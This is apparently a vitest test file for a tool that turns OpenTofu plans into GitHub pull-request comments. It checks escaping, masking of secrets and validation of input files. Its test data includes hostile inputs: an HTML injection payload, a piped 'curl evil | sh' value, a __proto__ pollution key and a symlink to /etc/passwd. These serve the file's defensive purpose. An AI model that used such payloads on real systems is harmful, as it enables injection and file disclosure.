/**
 * The pull-request comment renderer against hostile plan content: no mention, no HTML, no early
 * </details>; the headline survives a header that alone passes the size limit; a malformed plan is
 * refused with a message (no stack trace); summary data read back from an artifact is validated.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../lib/config/errors';
import { readArtifact, toArtifact } from '../lib/plan/artifact';
import { code, parsePlan, PLACEHOLDER_PREFIX, renderSummary, text, withoutPlaceholders, type StackPlan } from '../lib/plan/summary';
import { shared, tempDir } from './helpers';

const cli = path.resolve(__dirname, '..', 'dist', 'scripts', 'plan-summary.js');
const HOSTILE = '@octocat </details><img src=x onerror=alert(1)> [x](https://evil.example) `tick` *bold*\n\n</details>\n# heading';

/** A plan as tofu writes it, one container replaced, with hostile text in every free-form place. */
function hostilePlan(): string {
  const labels = [
    { label: 'stackyard.service', value: HOSTILE },
    { label: 'stackyard.host', value: HOSTILE },
    { label: 'stackyard.kind', value: 'postgres' },
  ];
  return JSON.stringify({
    format_version: '1.2',
    resource_changes: [{
      address: 'docker_container.svc_db_1',
      mode: 'managed',
      type: 'docker_container',
      name: 'svc_db_1',
      change: {
        actions: ['delete', 'create'],
        before: { image: 'sha256:aaa', labels, command: [HOSTILE] },
        after: { image: HOSTILE, labels, command: ['(</details><img src=x>)'] },
        after_unknown: {},
        before_sensitive: {},
        after_sensitive: {},
        replace_paths: [['image']],
      },
    }],
  });
}

describe('plan comment renderer: hostile content', () => {
  // rendered inside each test that reads it (see `shared`), so the escaping counts as covered by it
  const md = shared(() => renderSummary([parsePlan('staging', hostilePlan())]).markdown);
  // what GitHub interprets: everything outside code spans (their content is shown literally)
  const outside = () => md().replace(/`[^`\n]*`/g, '');

  it('mentions nobody', () => {
    expect(outside()).not.toMatch(/@octocat/);
    expect(outside()).toContain('@\u200boctocat');
    // a code span cannot be left early: no backtick or line break inside one
    expect(md().split('\n').every((l) => (l.match(/`/g) ?? []).length % 2 === 0)).toBe(true);
  });

  it('adds no HTML and closes no <details> early', () => {
    expect(outside()).not.toMatch(/<img/i);
    // the only tags are the renderer's own: one <details> and its </details>
    expect(outside().match(/<details>/g)).toHaveLength(1);
    expect(outside().match(/<\/details>/g)).toHaveLength(1);
    const lines = md().split('\n');
    expect(lines.filter((l) => /^#\s*heading/.test(l))).toEqual([]);
  });

  it('adds no link and keeps every value on one line', () => {
    expect(outside()).toContain('evil.example');
    expect(outside()).not.toMatch(/(?<!\\)\]\(/);
    expect(outside()).not.toMatch(/\*bold\*/);
    expect(outside().split('\n').filter((l) => l.includes('</details>'))).toEqual(['</details>']);
  });

  it('a value that looks like the renderer\'s own words stays a code span', () => {
    expect(md()).toContain("`(</details><img src=x>)`");
  });
});

describe('plan text and code spans', () => {
  it('text: HTML characters as entities, Markdown punctuation escaped, mentions broken, control characters as spaces', () => {
    expect(text('a & b < c > d')).toBe('a &amp; b &lt; c &gt; d');
    expect(text('*b* _i_ [l](u) |t| ~s~ \\ `c`')).toBe('\\*b\\* \\_i\\_ \\[l\\](u) \\|t\\| \\~s\\~ \\\\ \\`c\\`');
    expect(text('@org/team')).toBe('@\u200borg/team');
    expect(text('a\nb\rc\td\u0000e\u007ff\u0085g\u2028h\u2029i')).toBe('a b c d e f g h i');
  });

  it('text: cut with an ellipsis past its bound (200 by default), not at it; the cut comes before escaping', () => {
    expect(text('x'.repeat(200))).toBe('x'.repeat(200));
    expect(text('x'.repeat(201))).toBe(`${'x'.repeat(197)}...`);
    expect(text('abcdef', 5)).toBe('ab...');
    expect(text('<'.repeat(6), 5)).toBe('&lt;&lt;...');
  });

  it('code: a span with backticks as quotes and control characters as spaces; the renderer\'s own words and the empty string in italics', () => {
    expect(code('a`b\nc')).toBe("`a'b c`");
    expect(code('<b>@x</b>')).toBe('`<b>@x</b>`');
    expect(code('')).toBe('_(empty)_');
    for (const w of ['(sensitive)', '(known after apply)', '(none)', '(rotated)', '(new secret)', '(version of the last deploy)']) expect(code(w)).toBe(`_${w}_`);
    expect(code('(other)')).toBe('`(other)`');
  });

  it('code: cut with an ellipsis past 300 characters, not at 300', () => {
    expect(code('y'.repeat(300))).toBe(`\`${'y'.repeat(300)}\``);
    expect(code('y'.repeat(301))).toBe(`\`${'y'.repeat(297)}...\``);
  });
});

describe('withoutPlaceholders: the deployed value stands in for each placeholder, its marks move with it', () => {
  const PH = `${PLACEHOLDER_PREFIX}K`;

  it('a string: the deployed string, or the placeholder when nothing was deployed', () => {
    expect(withoutPlaceholders('real', `x${PH}`)).toStrictEqual({ after: 'real', sensitive: undefined, unknown: undefined });
    expect(withoutPlaceholders(null, PH, true)).toStrictEqual({ after: PH, sensitive: true, unknown: undefined });
    expect(withoutPlaceholders({ a: 1 }, 'plain', false, false)).toStrictEqual({ after: 'plain', sensitive: false, unknown: false });
  });

  it('an object: each field from the same field deployed; marks kept, copied per field, or whole', () => {
    expect(withoutPlaceholders({ a: 'real', n: null }, { a: PH, n: null, k: 'kept' }, { a: true, gone: true }, { k: false, id: true })).toStrictEqual({
      after: { a: 'real', n: null, k: 'kept' },
      sensitive: { a: true, gone: true },
      unknown: { k: false, id: true },
    });
    expect(withoutPlaceholders({ a: 'real' }, { a: PH }, true, true)).toStrictEqual({ after: { a: 'real' }, sensitive: true, unknown: true });
    // nested: a whole mark stays whole; no mark becomes an empty mark per level
    expect(withoutPlaceholders({ a: { b: 'real' } }, { a: { b: PH } }, true, true)).toStrictEqual({ after: { a: { b: 'real' } }, sensitive: true, unknown: true });
    expect(withoutPlaceholders({ a: { b: 'real' } }, { a: { b: PH } })).toStrictEqual({ after: { a: { b: 'real' } }, sensitive: { a: {} }, unknown: { a: {} } });
    // a string deployed where an object is planned is no source of fields
    expect(withoutPlaceholders('real', { 0: PH }).after).toStrictEqual({ 0: PH });
    // nothing deployed, or a list where an object is now: the placeholder stays
    expect(withoutPlaceholders(null, { a: PH }).after).toStrictEqual({ a: PH });
    expect(withoutPlaceholders(['real'], { 0: PH }).after).toStrictEqual({ 0: PH });
  });

  it('a list: env entries matched by NAME=, uploads by file, anything else by position; the deployed order kept', () => {
    const env = withoutPlaceholders(['A=1', 'echo A=real', 'B=real'], [`B=${PH}`, `echo A=${PH}`, 'A=1'], [true, true, false], [false, false, true]);
    expect(env).toStrictEqual({ after: ['A=1', 'echo A=real', 'B=real'], sensitive: [false, true, true], unknown: [true, false, false] });
    // a deployed entry stands in once, and a keyed one never for a keyless entry at its position
    expect(withoutPlaceholders(['A=1', 'B=real'], ['A=1', `x ${PH}`]).after).toStrictEqual(['A=1', `x ${PH}`]);
    // entries that pair with nothing keep their planned order, after the paired ones
    expect(withoutPlaceholders(['A=1', 'B=2'], ['x', `y ${PH}`, 'z', 'B=2']).after).toStrictEqual(['B=2', 'x', `y ${PH}`, 'z']);
    expect(withoutPlaceholders(['A=real', 'A=other'], [`A=${PH}`, `A=${PH}`]).after).toStrictEqual(['A=real', 'A=other']);
    // an entry planned as deployed keeps its own slot: the placeholder takes the other one with its key
    expect(withoutPlaceholders(['A=1', 'A=real'], [`A=${PH}`, 'A=1'], [true, false], undefined, [false, true])).toStrictEqual({ after: ['A=1', 'A=real'], sensitive: [false, true], unknown: [false, false] });
    // NAME= only at the start: `echo A=` is keyless, so it does not take the deployed A= entry
    expect(withoutPlaceholders(['A=1', 'echo A=real'], [`echo A=${PH}`, 'A=2']).after).toStrictEqual(['A=2', `echo A=${PH}`]);
    // keyless entries pair by position only, even an unchanged one: in an ordered list (a command) a
    // move is a change and stays one; a keyless block that moved in a set keeps its placeholder (a
    // known limit: it then shows as changed, masked where it is marked)
    expect(withoutPlaceholders(['x', 'y', 'real'], ['y', 'x', `--t=${PH}`]).after).toStrictEqual(['y', 'x', 'real']);
    expect(withoutPlaceholders([{ f: 1 }, { g: 'real' }], [{ g: PH }, { f: 1 }]).after).toStrictEqual([{ g: PH }, { f: 1 }]);
    const files = withoutPlaceholders([{ file: '/a', content: 'a' }, { file: '/s', content: 'real' }], [{ file: '/s', content: PH }, { file: '/a', content: 'a' }]);
    expect(files.after).toStrictEqual([{ file: '/a', content: 'a' }, { file: '/s', content: 'real' }]);
    // entries without a key pair by position; ones past the deployed list stay as planned, last
    const plain = withoutPlaceholders([{ x: 'real' }, { y: 'real' }], [{ x: 'x' }, { y: PH }, null, { z: PH }], true, true);
    expect(plain).toStrictEqual({ after: [{ x: 'x' }, { y: 'real' }, null, { z: PH }], sensitive: true, unknown: true });
    expect(withoutPlaceholders(['run'], ['run', `--token=${PH}`]).after).toStrictEqual(['run', `--token=${PH}`]);
    // an entry without a file is keyless: it does not pair with another file-less entry deployed elsewhere
    expect(withoutPlaceholders([{ y: 'real' }, { file: '/a' }], [{ file: '/a' }, { y: PH }]).after).toStrictEqual([{ file: '/a' }, { y: PH }]);
  });

  it('a list where nothing, or no list, was deployed keeps its placeholders', () => {
    expect(withoutPlaceholders(null, [`x ${PH}`]).after).toStrictEqual([`x ${PH}`]);
    expect(withoutPlaceholders({ 0: 'real' }, [`x ${PH}`]).after).toStrictEqual([`x ${PH}`]);
    expect(withoutPlaceholders([], [{ a: PH }])).toStrictEqual({ after: [{ a: PH }], sensitive: [false], unknown: [false] });
  });

  it('a deployed value marked sensitive where it came from is marked in its new place, whatever the plan marked', () => {
    expect(withoutPlaceholders('real', PH, false, undefined, true).sensitive).toBe(true);
    expect(withoutPlaceholders('real', PH, false, undefined, false).sensitive).toBe(false);
    // no deployed string, no deployed value shown: the planned mark stays
    expect(withoutPlaceholders(null, PH, false, undefined, true).sensitive).toBe(false);
    expect(withoutPlaceholders({ a: 'real' }, { a: PH }, { a: false }, undefined, { a: true }).sensitive).toStrictEqual({ a: true });
    // a whole mark covers each part of the deployed value
    expect(withoutPlaceholders({ a: { b: 'real' } }, { a: { b: PH } }, undefined, undefined, true).sensitive).toStrictEqual({ a: { b: true } });
    // in a list, the mark of the deployed entry that stands in, not of the one at the planned position
    const moved = withoutPlaceholders(['B=x', 'A=real'], [`A=${PH}`, 'B=x'], [false, false], undefined, [false, true]);
    expect(moved).toStrictEqual({ after: ['B=x', 'A=real'], sensitive: [false, true], unknown: [false, false] });
    expect(withoutPlaceholders(['A=real', 'B=2'], [`A=${PH}`, 'B=2'], [false, false], undefined, true).sensitive).toStrictEqual([true, false]);
  });

  it('a list without marks gets a mark per entry, false where none was', () => {
    expect(withoutPlaceholders(['A=real'], [`A=${PH}`, 'B=2'])).toStrictEqual({ after: ['A=real', 'B=2'], sensitive: [false, false], unknown: [false, false] });
  });
});

describe('plan comment renderer: size limit', () => {
  it('keeps the headlines when the header alone passes the limit', () => {
    const changes = Array.from({ length: 400 }, (_, i) => ({
      address: `docker_container.svc_service_with_a_long_name_${i}_1`, type: 'docker_container', action: 'replace' as const,
      host: 'core', service: `service-with-a-long-name-${i}`, kind: i % 2 ? 'postgres' : 'web',
      attributes: [{ path: 'image', before: 'a', after: 'b', forcesReplacement: true }], dataLoss: i % 2 === 1,
    }));
    const plans: StackPlan[] = [{ name: 'production', changes }, { name: 'staging', changes: [] }];
    const limit = 4000;
    const s = renderSummary(plans, limit);
    expect(s.markdown.length).toBeLessThanOrEqual(limit);
    expect(s.truncated).toBe(true);
    expect(s.markdown).toContain('**production**: 0 to add, 0 to change, 400 to replace, 0 to destroy');
    expect(s.markdown).toContain('**staging**: no changes');
    expect(s.markdown).toContain('> [!CAUTION]');
    expect(s.markdown).toMatch(/… and \d+ more/);
  });
});

describe('malformed plans', () => {
  const cases: Record<string, unknown> = {
    'a change without actions': { format_version: '1.2', resource_changes: [{ address: 'a.b', type: 'a', name: 'b', change: {} }] },
    'a change that is a number': { format_version: '1.2', resource_changes: [42] },
    'resource_changes that is a mapping': { format_version: '1.2', resource_changes: { a: 1 } },
    'replace_paths that are not lists': { format_version: '1.2', resource_changes: [{ address: 'a.b', type: 'a', name: 'b', change: { actions: ['update'], before: {}, after: {}, replace_paths: [7] } }] },
    'an unknown action': { format_version: '1.2', resource_changes: [{ address: 'a.b', type: 'a', name: 'b', change: { actions: ['explode'] } }] },
    'configuration resources that are a mapping': { format_version: '1.2', configuration: { root_module: { resources: { x: 1 } } }, resource_changes: [] },
  };
  for (const [what, plan] of Object.entries(cases)) {
    it(`${what}: exit 1 with a message, no stack trace`, () => {
      const d = tempDir();
      const file = path.join(d, 'plan.json');
      fs.writeFileSync(file, JSON.stringify(plan));
      const r = spawnSync(process.execPath, [cli, 'plan', file], { encoding: 'utf8' });
      if (what.startsWith('configuration')) {
        expect(r.status).toBe(0);
        return;
      }
      expect(r.status).toBe(1);
      expect(r.stderr).toMatch(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: has resource_changes`));
      expect(r.stderr).not.toMatch(/\n\s+at /);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
    });
  }
});

describe('placeholder secrets in pull-request plans', () => {
  const change = (before: unknown, after: unknown, replace: string[][] = [['upload']]) => JSON.stringify({
    format_version: '1.2',
    resource_changes: [{
      address: 'docker_container.svc_db_1', mode: 'managed', type: 'docker_container', name: 'svc_db_1',
      change: { actions: ['delete', 'create'], before, after, after_unknown: { id: true }, before_sensitive: { upload: [{ content: true }, { content: true }] }, after_sensitive: { upload: [{ content: true }, { content: true }] }, replace_paths: replace },
    }],
  });
  const deployed = { image: 'sha256:1', env: ['A=1', 'DB_URL=postgresql://app:real@db/app'], upload: [{ file: '/run/secrets/DB_PASSWORD', content: 'real' }, { file: '/etc/x.conf', content: 'x' }], labels: [{ label: 'stackyard.kind', value: 'postgres' }] };

  it('a placeholder where the deployed value was is no change at all', () => {
    const planned = { ...deployed, env: [`DB_URL=postgresql://app:${PLACEHOLDER_PREFIX}DB_PASSWORD@db/app`, 'A=1'], upload: [{ file: '/etc/x.conf', content: 'x' }, { file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
    expect(parsePlan('p', change(deployed, planned), 'p', { placeholders: true }).changes).toEqual([]);
    // without the option, the same plan is a replacement (what tofu says)
    expect(parsePlan('p', change(deployed, planned)).changes.map((c) => c.action)).toEqual(['replace']);
  });

  it('a real change next to a placeholder still shows, with the right action', () => {
    const planned = { ...deployed, image: 'sha256:2', upload: [{ file: '/etc/x.conf', content: 'x' }, { file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
    const p = parsePlan('p', change(deployed, planned, [['upload'], ['image']]), 'p', { placeholders: true });
    expect(p.changes.map((c) => [c.action, c.dataLoss, c.attributes.map((a) => a.path)])).toEqual([['replace', true, ['image']]]);
    const notForced = parsePlan('p', change(deployed, { ...deployed, labels: [{ label: 'stackyard.kind', value: 'postgres' }, { label: 'x', value: 'y' }], upload: planned.upload }), 'p', { placeholders: true });
    expect(notForced.changes.map((c) => [c.action, c.dataLoss])).toEqual([['update', false]]);
  });
  it('an update whose only difference is a placeholder is no change', () => {
    const plan = JSON.stringify({ format_version: '1.2', resource_changes: [{ address: 'docker_container.svc_api_1', mode: 'managed', type: 'docker_container', name: 'svc_api_1', change: { actions: ['update'], before: { env: ['A=1', 'K=real'] }, after: { env: ['A=1', `K=${PLACEHOLDER_PREFIX}K`] }, after_unknown: {}, before_sensitive: { env: true }, after_sensitive: { env: true } } }] });
    expect(parsePlan('p', plan, 'p', { placeholders: true }).changes).toEqual([]);
    expect(parsePlan('p', plan).changes.map((c) => c.action)).toEqual(['update']);
  });

  it('a destroyed or created container is listed as such, placeholders or not', () => {
    const planned = { ...deployed, upload: [{ file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
    const plan = (actions: string[], before: unknown, after: unknown) => JSON.stringify({ format_version: '1.2', resource_changes: [{ address: 'docker_container.svc_db_1', mode: 'managed', type: 'docker_container', name: 'svc_db_1', change: { actions, before, after, after_unknown: {}, before_sensitive: {}, after_sensitive: {} } }] });
    for (const options of [{ placeholders: true }, {}]) {
      expect(parsePlan('p', plan(['delete'], deployed, null), 'p', options).changes.map((c) => [c.action, c.dataLoss])).toEqual([['delete', true]]);
      expect(parsePlan('p', plan(['create'], null, planned), 'p', options).changes.map((c) => c.action)).toEqual(['create']);
    }
  });

  it('a replacement forced by a real change stays a replacement beside changes that force nothing', () => {
    const planned = { ...deployed, image: 'sha256:2', labels: [...deployed.labels, { label: 'x', value: 'y' }], upload: [{ file: '/etc/x.conf', content: 'x' }, { file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
    const p = parsePlan('p', change(deployed, planned, [['upload'], ['image']]), 'p', { placeholders: true });
    expect(p.changes.map((c) => [c.action, c.attributes.map((a) => [a.path, a.forcesReplacement])])).toEqual([['replace', [['image', true], ['labels.1', false]]]]);
  });

  it('user and working_dir read from the image (unset in the configuration) are no change, in a placeholder plan or a real replacement', () => {
    const redis = { ...deployed, working_dir: '/data', user: '999:999', labels: [{ label: 'stackyard.kind', value: 'redis' }] };
    const planned = { ...redis, working_dir: null, user: '', upload: [{ file: '/etc/x.conf', content: 'x' }, { file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
    expect(parsePlan('p', change(redis, planned), 'p', { placeholders: true }).changes).toEqual([]);
    const newImage = parsePlan('p', change(redis, { ...redis, image: 'sha256:2', working_dir: null }, [['image']]));
    expect(newImage.changes.map((c) => [c.action, c.attributes.map((a) => a.path)])).toEqual([['replace', ['image']]]);
    // set in the configuration, a change of them still shows
    const moved = parsePlan('p', change(redis, { ...planned, working_dir: '/srv' }, [['upload'], ['working_dir']]), 'p', { placeholders: true });
    expect(moved.changes.map((c) => [c.action, c.attributes.map((a) => [a.path, a.before, a.after])])).toEqual([['replace', [['working_dir', '/data', '/srv']]]]);
  });

  /** A pull-request plan replacing a container whose deployed uploads are a.conf and the secret K (sensitive). */
  const uploadsPlan = (after: object[], afterSensitive: object[]) => parsePlan('p', JSON.stringify({
    format_version: '1.2',
    resource_changes: [{
      address: 'docker_container.svc_api_1', mode: 'managed', type: 'docker_container', name: 'svc_api_1',
      change: {
        actions: ['delete', 'create'],
        before: { upload: [{ file: '/etc/a.conf', content: 'a' }, { file: '/run/secrets/K', content: 'deployed-real-secret' }] },
        after: { upload: after },
        before_sensitive: { upload: [{}, { content: true }] },
        after_sensitive: { upload: afterSensitive },
        after_unknown: {},
        replace_paths: [['upload']],
      },
    }],
  }), 'p', { placeholders: true });

  it('the deployed value that stands in for a placeholder stays masked when set order changes', () => {
    const p = uploadsPlan([{ file: '/run/secrets/K', content: `${PLACEHOLDER_PREFIX}K` }, { file: '/etc/a.conf', content: 'a2' }, { file: '/etc/new.conf', content: 'n' }], [{ content: true }, {}, {}]);
    const md = renderSummary([p]).markdown;
    expect(md).not.toContain('deployed-real-secret');
    expect(p.changes[0].attributes.map((a) => [a.path, a.before, a.after])).toEqual([['upload.0.content', 'a', 'a2'], ['upload.2', '(none)', '{"file":"/etc/new.conf","content":"n"}']]);
  });

  it('a reordered command is a change, whatever placeholders it holds', () => {
    const plan = JSON.stringify({ format_version: '1.2', resource_changes: [{ address: 'docker_container.svc_api_1', mode: 'managed', type: 'docker_container', name: 'svc_api_1', change: {
      actions: ['delete', 'create'], before: { command: ['serve', '--safe', '--port=80'] }, after: { command: [`${PLACEHOLDER_PREFIX}X`, '--port=80', '--safe'] },
      before_sensitive: {}, after_sensitive: {}, after_unknown: {}, replace_paths: [['command']],
    } }] });
    expect(parsePlan('p', plan, 'p', { placeholders: true }).changes.map((c) => c.attributes.map((a) => [a.path, a.before, a.after]))).toEqual([[['command.1', '--safe', '--port=80'], ['command.2', '--port=80', '--safe']]]);
  });

  it('a key named __proto__ in a plan is a field like any other: a deployed value standing in stays masked', () => {
    // JSON.parse makes `__proto__` an own key; set with `o[k] = ...` it would become the object's prototype
    const PH = `${PLACEHOLDER_PREFIX}K`;
    const plan = `{"format_version":"1.2","resource_changes":[{"address":"terraform_data.t","mode":"managed","type":"terraform_data","name":"t","change":{"actions":["update"],
      "before":{"__proto__":{"x":"deployed-real-secret"},"x":"public"},"after":{"__proto__":{"x":"${PH}"}},
      "before_sensitive":{"__proto__":{"x":true}},"after_sensitive":{"__proto__":false},"after_unknown":{}}}]}`;
    const p = parsePlan('p', plan, 'p', { placeholders: true });
    expect(renderSummary([p]).markdown).not.toContain('deployed-real-secret');
    expect(p.changes[0].attributes.map((a) => [a.path, a.before, a.after])).toEqual([['x', 'public', '(none)']]);
    const r = withoutPlaceholders(JSON.parse('{"__proto__":{"x":"real"}}'), JSON.parse(`{"__proto__":{"x":"${PH}"}}`), JSON.parse('{"__proto__":{"x":true}}'), JSON.parse('{"__proto__":{}}'));
    expect(Object.getPrototypeOf(r.after)).toBe(Object.prototype);
    expect(Object.getPrototypeOf(r.sensitive)).toBe(Object.prototype);
    expect(Object.getPrototypeOf(r.unknown)).toBe(Object.prototype);
    expect(JSON.stringify(r)).toBe('{"after":{"__proto__":{"x":"real"}},"sensitive":{"__proto__":{"x":true}},"unknown":{"__proto__":{}}}');
  });

  it('the deployed value stays masked by its own mark when the planned one is missing and entries shift', () => {
    // /etc/a.conf is removed, so the secret's deployed value lands at index 0, beside a.conf's deployed
    // content; the plan carries no mark for it (a plan not from tofu, or a variable not marked sensitive)
    const p = uploadsPlan([{ file: '/run/secrets/K', content: `${PLACEHOLDER_PREFIX}K` }, { file: '/etc/b.conf', content: 'b' }], [{}, {}]);
    expect(renderSummary([p]).markdown).not.toContain('deployed-real-secret');
    expect(p.changes[0].attributes.map((a) => [a.path, a.before, a.after])).toEqual([
      ['upload.0.content', '(sensitive)', '(sensitive)'], ['upload.0.file', '/etc/a.conf', '/run/secrets/K'], ['upload.1.content', '(sensitive)', '(sensitive)'], ['upload.1.file', '/run/secrets/K', '/etc/b.conf'],
    ]);
  });
});

describe('summary artifacts', () => {
  it('round-trip, and refuse anything that is not summary data', () => {
    const d = tempDir();
    const plans = [parsePlan('staging', hostilePlan())];
    fs.writeFileSync(path.join(d, 'ok.json'), toArtifact(plans));
    expect(readArtifact(path.join(d, 'ok.json'))).toEqual(plans);
    const bad = (name: string, text: string | Buffer) => {
      fs.writeFileSync(path.join(d, name), text);
      return () => readArtifact(path.join(d, name));
    };
    expect(bad('notjson.json', 'x')).toThrow(/is not JSON/);
    expect(bad('extra.json', JSON.stringify({ kind: 'stackyard-plan-summary', version: 1, plans: [], run: 'curl evil | sh' }))).toThrow(/is not a plan summary/);
    expect(bad('name.json', JSON.stringify({ kind: 'stackyard-plan-summary', version: 1, plans: [{ name: 'x\n- **prod**: no changes', changes: [] }] }))).toThrow(ConfigError);
    expect(bad('big.json', Buffer.alloc(5 * 1024 * 1024, 32))).toThrow(/at most/);
    fs.symlinkSync('/etc/passwd', path.join(d, 'link.json'));
    expect(() => readArtifact(path.join(d, 'link.json'))).toThrow(/not a regular file/);
  });

  it('each refusal says what is wrong, at the file, with nothing else', () => {
    const d = tempDir();
    const problem = (file: string) => {
      try {
        readArtifact(file);
      } catch (e) {
        expect(e).toBeInstanceOf(ConfigError);
        return (e as ConfigError).problems;
      }
      throw new Error(`${file} was read`);
    };
    const at = (name: string, text: string | Buffer) => (fs.writeFileSync(path.join(d, name), text), path.join(d, name));
    expect(problem(path.join(d, 'missing.json'))).toEqual([{ file: path.join(d, 'missing.json'), line: 0, col: 0, path: '', message: 'file does not exist' }]);
    expect(problem(at('x.json', 'x'))[0].message).toBe('is not JSON; expected a plan summary written by `npm run plan:summary -- ... --json <file>`');
    expect(problem(at('top.json', '[]'))[0].message).toMatch(/^is not a plan summary: \(top\): /);
    expect(problem(at('deep.json', JSON.stringify({ kind: 'stackyard-plan-summary', version: 1, plans: [{ name: 'ok', changes: [{}] }] })))[0].message).toMatch(/^is not a plan summary: plans\.0\.changes\.0\.address: /);
    fs.mkdirSync(path.join(d, 'dir.json'));
    expect(problem(path.join(d, 'dir.json'))[0].message).toBe('is not a regular file');
    // the size limit itself is allowed; one byte more is not
    const limit = 4 * 1024 * 1024;
    expect(problem(at('limit.json', Buffer.alloc(limit, 32)))[0].message).toMatch(/^is not JSON/);
    expect(problem(at('over.json', Buffer.alloc(limit + 1, 32)))[0].message).toBe(`is ${limit + 1} bytes; a plan summary is at most ${limit}`);
  });

  it('an artifact is one line of JSON with its kind and version, a note only when there is one', () => {
    const text = toArtifact([{ name: 'staging', changes: [] }, { name: 'prod', changes: [], note: 'not planned' }]);
    expect(text).toBe('{"kind":"stackyard-plan-summary","version":1,"plans":[{"name":"staging","changes":[]},{"name":"prod","changes":[],"note":"not planned"}]}\n');
  });

  it('the render CLI labels where each summary came from and fails cleanly on a bad one', () => {
    const d = tempDir();
    fs.writeFileSync(path.join(d, 'a.json'), toArtifact([{ name: 'staging', changes: [] }]));
    fs.writeFileSync(path.join(d, 'notes.json'), JSON.stringify(['production: a maintainer must plan it']));
    const ok = spawnSync(process.execPath, [cli, 'render', `trusted:${path.join(d, 'a.json')}`, `pr-code:${path.join(d, 'a.json')}`, '--notes', path.join(d, 'notes.json')], { encoding: 'utf8' });
    expect(ok.status).toBe(0);
    expect(ok.stdout).toContain("**staging**: no changes (planned by the base branch's code");
    expect(ok.stdout).toContain("**staging**: no changes (structural diff computed by the pull request's own code");
    expect(ok.stdout).toContain('> production: a maintainer must plan it');
    fs.writeFileSync(path.join(d, 'bad.json'), '{"kind":"x"}');
    const bad = spawnSync(process.execPath, [cli, 'render', path.join(d, 'bad.json')], { encoding: 'utf8' });
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('is not a plan summary');
  });
});
